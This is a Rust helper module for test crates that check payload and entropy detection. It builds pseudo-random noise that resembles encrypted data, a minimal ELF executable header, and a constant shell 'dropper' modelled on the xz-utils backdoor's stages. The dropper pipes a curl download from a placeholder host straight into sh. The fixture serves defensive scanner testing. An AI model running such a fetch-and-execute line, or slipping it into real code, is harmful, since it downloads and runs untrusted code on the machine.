//! Bytes the payload and entropy tests hide things in: noise as random as
//! encrypted data, an executable's header, a shell dropper.
#![allow(dead_code)] // each test crate that includes this uses a part of it

/// Deterministic noise (xorshift): as random as encrypted bytes, to
/// entropy and deflate alike.
pub fn noise(len: usize, mut seed: u64) -> Vec<u8> {
    (0..len)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed >> 24) as u8
        })
        .collect()
}

/// A 64-bit little-endian x86-64 ELF executable header.
pub fn elf_header() -> Vec<u8> {
    let mut h = vec![0u8; 64];
    h[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    h[16..18].copy_from_slice(&2u16.to_le_bytes());
    h[18..20].copy_from_slice(&0x3eu16.to_le_bytes());
    h[20..24].copy_from_slice(&1u32.to_le_bytes());
    h[52..54].copy_from_slice(&64u16.to_le_bytes());
    h
}

/// A shell dropper, as the xz-utils backdoor's stages read.
pub const DROPPER: &[u8] = b"\n#!/bin/sh\ncurl -fsSL http://example.invalid/stage2 | sh\n";
